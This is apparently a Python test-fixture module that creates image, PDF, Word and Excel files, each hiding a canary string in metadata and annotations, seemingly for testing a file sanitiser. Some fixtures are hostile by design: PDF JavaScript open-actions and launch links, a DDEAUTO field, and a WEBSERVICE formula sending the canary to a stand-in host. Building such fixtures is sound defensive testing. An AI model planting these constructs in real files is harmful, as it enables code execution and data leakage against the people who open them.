"""Ordinary and hostile files, made in memory; each hides CANARY where it has room for one."""

import io
import zipfile
import zlib
from collections.abc import Mapping
from typing import Any

import docx
import openpyxl
import pikepdf
import pillow_heif
from docx.shared import Inches
from openpyxl.comments import Comment
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import ExifTags, Image

CANARY = "Canary-7f3a-of-Elm-Street"
SHOWN = "Twelve people took part"

Content = bytes


def picture(kind: str, *, size: tuple[int, int] = (60, 40), turned: bool = False) -> Content:
    """Return a photograph with a place, a maker and a comment in it."""
    image = Image.new("RGB", size, (200, 30, 30))
    image.paste((30, 30, 200), (0, 0, size[0] // 2, size[1]))
    exif = Image.Exif()
    exif[ExifTags.Base.Artist] = CANARY
    exif[ExifTags.Base.Orientation] = 6 if turned else 1
    exif.get_ifd(ExifTags.IFD.GPSInfo)[ExifTags.GPS.GPSAreaInformation] = CANARY.encode()
    out = io.BytesIO()
    extras: dict[str, Any] = {"exif": exif}
    if kind == "HEIF":
        pillow_heif.register_heif_opener()
        extras["xmp"] = f"<x>{CANARY}</x>".encode()
    if kind == "JPEG":
        extras["comment"] = CANARY.encode()
        extras["xmp"] = f"<x>{CANARY}</x>".encode()
    if kind == "PNG":
        from PIL.PngImagePlugin import PngInfo  # noqa: PLC0415 only PNG has such notes

        notes = PngInfo()
        notes.add_text("Author", CANARY)
        extras["pnginfo"] = notes
    image.save(out, kind, **extras)
    return out.getvalue()


def pdf(**hostile: bool) -> Content:
    """Return a one-page document; `hostile` names what else it brings."""
    made = pikepdf.new()
    page = made.add_blank_page(page_size=(300, 300))
    font = made.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    page.obj["/Resources"] = Dictionary(Font=Dictionary(F1=font))
    page.obj["/Contents"] = Stream(made, f"BT /F1 12 Tf 20 200 Td ({SHOWN}) Tj ET".encode())
    made.docinfo["/Author"] = String(CANARY)
    with made.open_metadata() as metadata:
        metadata["dc:creator"] = [CANARY]
    for name in (name for name, wanted in hostile.items() if wanted):
        if name in PDF_TRICKS:
            PDF_TRICKS[name](made, page)
    out = io.BytesIO()
    locked = pikepdf.Encryption(owner="o", user="u") if hostile.get("locked") else None
    owned = pikepdf.Encryption(owner="o", user="") if hostile.get("owned") else None
    made.save(out, encryption=locked or owned or False)
    return out.getvalue()


def _script(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
    action = Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{CANARY}')"))
    made.Root["/OpenAction"] = action
    made.Root["/AA"] = Dictionary(WC=action)
    made.Root["/Names"] = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), action])))
    page.obj["/AA"] = Dictionary(O=action)


def _launch(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
    links = [
        Dictionary(S=Name.Launch, F=String(CANARY)),
        Dictionary(S=Name.URI, URI=String(f"file:///{CANARY}")),
        Dictionary(S=Name.GoToR, F=String(CANARY)),
        Dictionary(S=Name.URI, URI=String("https://harbour.example/")),
    ]
    page.obj["/Annots"] = Array(
        [
            made.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([0, 0, 9, 9]),
                    A=action,
                    Contents=String(CANARY),
                    T=String(CANARY),
                )
            )
            for action in links
        ]
    )


def _attached(made: pikepdf.Pdf) -> pikepdf.AttachedFileSpec:
    return pikepdf.AttachedFileSpec(
        made, CANARY.encode(), filename=CANARY, description=CANARY, mime_type="text/plain",
        creation_date="", mod_date="",
    )  # fmt: skip


def _attachment(made: pikepdf.Pdf, _page: pikepdf.Page) -> None:
    made.attachments[CANARY] = _attached(made)


def _note(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
    page.obj["/Annots"] = Array(
        [
            made.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Text,
                    Rect=Array([0, 0, 9, 9]),
                    T=String(CANARY),
                    Contents=String(CANARY),
                )
            )
        ]
    )


def _form(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
    field = made.make_indirect(
        Dictionary(
            Type=Name.Annot,
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("name"),
            V=String("hello"),
            Rect=Array([10, 10, 90, 30]),
            DA=String("/Helv 10 Tf"),
            AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String(CANARY))),
        )
    )
    page.obj["/Annots"] = Array([field])
    made.Root["/AcroForm"] = Dictionary(
        Fields=Array([field]),
        XFA=Stream(made, CANARY.encode()),
        DA=String("/Helv 10 Tf"),
        DR=Dictionary(),
    )


def _layer(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
    layer = made.make_indirect(Dictionary(Type=Name.OCG, Name=String(CANARY)))
    made.Root["/OCProperties"] = Dictionary(OCGs=Array([layer]), D=Dictionary())
    page.obj["/Resources"]["/Properties"] = Dictionary(L1=layer)


def _photo(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
    jpeg = picture("JPEG")
    shape = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Image,
        Width=60,
        Height=40,
        BitsPerComponent=8,
        ColorSpace=Name.DeviceRGB,
        Metadata=Stream(made, CANARY.encode()),
    )
    plain, wrapped = Stream(made, jpeg, shape), Stream(made, zlib.compress(jpeg), shape)
    plain["/Filter"] = Name.DCTDecode
    wrapped["/Filter"] = Array([Name.FlateDecode, Name.DCTDecode])
    page.obj["/Resources"]["/XObject"] = Dictionary(I1=plain, I2=wrapped)
    page.obj["/PieceInfo"] = Dictionary(Word=Dictionary(Private=String(CANARY)))
    page.obj["/Thumb"] = Stream(made, CANARY.encode())


PDF_TRICKS = {
    "script": _script, "launch": _launch, "attachment": _attachment, "note": _note,
    "form": _form, "layer": _layer, "photo": _photo,
}  # fmt: skip


def word() -> Content:
    """Return a document with an author, a comment, a struck-out name and a photograph."""
    made = docx.Document()
    made.core_properties.author = CANARY
    paragraph = made.add_paragraph(SHOWN)
    made.add_comment(paragraph.runs, text=CANARY, author=CANARY, initials="C")
    made.add_picture(io.BytesIO(picture("JPEG")), width=Inches(1))
    out = io.BytesIO()
    made.save(out)
    struck = (
        f'<w:p><w:del w:id="9" w:author="{CANARY}" w:date="2026-01-01T00:00:00Z"><w:r>'
        f"<w:delText>{CANARY}</w:delText></w:r></w:del>"
        f'<w:ins w:id="8" w:author="{CANARY}"><w:r><w:t>agreed</w:t></w:r></w:ins>'
        '<w:fldSimple w:instr="DDEAUTO c:\\\\x"><w:r><w:t>kept</w:t></w:r></w:fldSimple>'
        f'<w:r><w:instrText>INCLUDETEXT "{CANARY}"</w:instrText></w:r></w:p></w:body>'
    )
    return rewrite(
        out.getvalue(),
        {"word/document.xml": lambda xml: xml.replace(b"</w:body>", struck.encode())},
    )


def workbook() -> Content:
    """Return a workbook with an author, a comment, a formula and a saved folder."""
    made = openpyxl.Workbook()
    made.properties.creator = CANARY
    sheet = made.active
    assert sheet is not None
    sheet["A1"] = SHOWN
    sheet["A2"] = f'=WEBSERVICE("https://elsewhere.example/{CANARY}")'
    sheet["A1"].comment = Comment(CANARY, CANARY)
    sheet["A3"] = "notes"
    sheet["A3"].hyperlink = f"file:///{CANARY}"
    sheet["A3"].value = "notes"
    out = io.BytesIO()
    made.save(out)
    folder = f'<x15ac:absPath xmlns:x15ac="urn:x" url="C:\\Users\\{CANARY}\\"/></workbook>'
    return rewrite(
        out.getvalue(),
        {"xl/workbook.xml": lambda xml: xml.replace(b"</workbook>", folder.encode())},
    )


def rewrite(container: Content, changes: Mapping[str, Any], *, add: Any = None) -> Content:
    """Return a ZIP container with some parts changed and some added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(container)) as old, zipfile.ZipFile(out, "w", 8) as new:
        for name in old.namelist():
            change = changes.get(name, lambda content: content)
            new.writestr(name, change(old.read(name)))
        for name, content in (add or {}).items():
            new.writestr(name, content)
    return out.getvalue()
